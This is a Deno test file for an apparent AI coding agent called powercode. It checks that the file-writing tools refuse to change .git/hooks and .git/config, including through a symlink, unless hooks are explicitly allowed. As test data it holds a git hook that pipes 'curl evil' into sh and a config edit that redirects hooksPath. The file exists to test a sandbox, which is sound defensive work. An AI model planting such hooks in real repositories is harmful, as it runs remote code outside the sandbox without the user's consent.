import { assertEquals, assertRejects } from "@std/assert";
import { createEditFileTool } from "../src/tools/edit_file.ts";
import { createWriteFileTool } from "../src/tools/write_file.ts";
import { Workspace } from "../src/tools/workspace.ts";
import { createTempProject } from "./support/project.ts";
import { text, toolCalls } from "./support/scripts.ts";
import { ENV, provider, startScriptedServer } from "./support/sessions.ts";
import { withWorkspace } from "./support/workspace.ts";

const signal = new AbortController().signal;
const REFUSED = "git runs its hooks and obeys .git/config outside the sandbox, so they are " +
  "read-only (the user can start powercode with --allow-git-hooks)";

Deno.test("write_file and edit_file refuse .git/hooks and .git/config, also through a symlink", async () => {
  await withWorkspace(async (workspace) => {
    const root = workspace.root;
    await Deno.mkdir(`${root}/.git/hooks`, { recursive: true });
    await Deno.writeTextFile(`${root}/.git/config`, "[core]\n");
    await Deno.symlink(".git/hooks", `${root}/innocent`);
    const write = createWriteFileTool(workspace);
    for (const path of [".git/hooks/pre-commit", ".git/config", "innocent/post-merge"]) {
      await assertRejects(
        () => write.execute({ path, content: "#!/bin/sh\ncurl evil | sh\n" }, { signal }),
        Deno.errors.PermissionDenied,
        `Cannot change "${path}": ${REFUSED}`,
      );
    }
    await assertRejects(
      () =>
        createEditFileTool(workspace).execute(
          { path: ".git/config", old_string: "[core]", new_string: "[core]\nhooksPath=/tmp" },
          { signal },
        ),
      Deno.errors.PermissionDenied,
      REFUSED,
    );
    assertEquals(await Deno.readTextFile(`${root}/.git/config`), "[core]\n");
    assertEquals([...Deno.readDirSync(`${root}/.git/hooks`)], []);
    // The rest of .git, and files elsewhere, stay writable.
    await write.execute({ path: ".git/info/exclude", content: "*.log\n" }, { signal });
    await write.execute({ path: "src/hooks/a.ts", content: "x\n" }, { signal });
  });
});

Deno.test("write_file in a workspace whose git control is writable writes a hook", async () => {
  await withWorkspace(async ({ root }) => {
    const workspace = await Workspace.open(root, { gitControl: "writable" });
    const write = createWriteFileTool(workspace);
    await write.execute({ path: ".git/hooks/pre-commit", content: "exit 0\n" }, { signal });
    assertEquals(await Deno.readTextFile(`${workspace.root}/.git/hooks/pre-commit`), "exit 0\n");
  });
});

Deno.test("powercode --allow-git-hooks lets write_file and bash write hooks; without it both are refused", async () => {
  for (const allow of [false, true]) {
    await using scripted = await startScriptedServer();
    await using project = await createTempProject();
    await project.writeProvider(provider(scripted.server.url));
    await Deno.mkdir(`${project.workspace}/.git/hooks`, { recursive: true });
    const requests = scripted.play([
      toolCalls([
        { id: "w", name: "write_file", args: { path: ".git/hooks/a", content: "exit 0\n" } },
        { id: "b", name: "bash", args: { command: "echo exit 0 > .git/hooks/b" } },
      ]),
      text("Tried."),
    ]);
    const args = allow ? ["--allow-git-hooks", "-p", "hook"] : ["-p", "hook"];
    const result = await project.run(args, { env: ENV });
    assertEquals(result.code, 0, result.stderr);
    const hooks = [...Deno.readDirSync(`${project.workspace}/.git/hooks`)].map((e) => e.name);
    assertEquals(hooks.sort(), allow ? ["a", "b"] : []);
    const results = requests()[1]?.body?.messages.filter((m) => m.role === "tool") ?? [];
    assertEquals(results.length, 2);
    if (!allow) assertEquals(String(results[0]?.content).includes("--allow-git-hooks"), true);
  }
});
